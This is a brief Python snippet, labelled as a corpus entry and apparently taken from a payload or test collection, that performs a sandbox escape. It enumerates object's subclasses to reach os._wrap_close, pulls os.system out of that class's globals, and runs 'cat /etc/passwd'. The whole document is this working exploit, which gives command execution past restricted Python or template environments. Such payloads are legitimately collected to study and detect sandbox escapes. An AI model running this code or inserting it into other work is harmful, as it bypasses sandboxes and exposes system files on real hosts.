# corpus: type.__subclasses__(object) enumeration to locate os._wrap_close
for cls in type.__subclasses__(object):
    if cls.__name__ == "_wrap_close":
        system = cls.__init__.__globals__["system"]
        system("cat /etc/passwd")
